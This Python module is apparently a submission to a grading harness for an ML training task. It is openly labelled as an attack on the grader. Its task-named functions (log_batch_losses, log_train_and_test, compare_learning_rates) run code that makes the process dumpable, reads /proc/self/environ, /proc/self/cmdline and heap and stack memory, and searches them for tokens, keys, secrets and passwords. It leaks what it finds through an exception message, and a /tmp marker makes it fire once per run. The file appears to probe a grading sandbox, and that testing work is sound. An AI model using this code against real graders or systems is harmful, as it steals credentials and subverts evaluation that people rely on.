"""Attack: read the grader's secrets back from this process's own memory.

A process forked from the grader holds a copy of the grader's memory: the environment it was
started with (/proc/self/environ shows it), and whatever else its heap and stack kept. The attack
makes /proc/self readable again (a process may always make itself dumpable) and searches both.
"""
import ctypes
import os

WORDS = (b"TOKEN=", b"KEY=", b"SECRET=", b"PASSWORD=", b"credentials")


def around(chunk, word):
    found, start = [], chunk.find(word)
    while start != -1 and len(found) < 20:
        found.append(chunk[max(0, start - 40):start + 80].decode(errors="replace"))
        start = chunk.find(word, start + 1)
    return found


def stolen():
    ctypes.CDLL(None, use_errno=True).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    found = []
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/self/{name}", "rb") as file:
                found.append(file.read().decode(errors="replace"))
        except OSError as error:
            found.append(f"{name}: {error}")
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5] not in ("[stack]", "[heap]")):
                continue
            start, end = (int(value, 16) for value in fields[0].split("-"))
            try:
                memory.seek(start)
                chunk = memory.read(min(end - start, 256 << 20))
            except (OSError, ValueError, OverflowError):
                continue
            for word in WORDS:
                found.extend(around(chunk, word))
    return f"pid {os.getpid()}: " + " | ".join(found)[:20000]


def attack():
    raise RuntimeError(stolen())


def strike_once(attack):
    """The attack costs seconds, and the limits it meets are the same in every call, so it strikes
    in a run's first call only. The run's worker host is this call's parent: a mark named after it
    (pid and start time) stays in the host's /tmp for its later calls."""
    with open(f"/proc/{os.getppid()}/stat") as stat:
        started = stat.read().rsplit(")", 1)[1].split()[19]
    try:
        os.close(os.open(f"/tmp/watchtrain-attack-struck-{os.getppid()}-{started}", os.O_CREAT | os.O_EXCL))
    except FileExistsError:
        raise RuntimeError("the attack struck in this run's first call already") from None
    attack()


def log_batch_losses(log_dir, epoch_losses):
    strike_once(attack)


def log_train_and_test(log_dir, history):
    strike_once(attack)


def compare_learning_rates(log_root, x, y, learning_rates, epochs, device="cpu"):
    strike_once(attack)
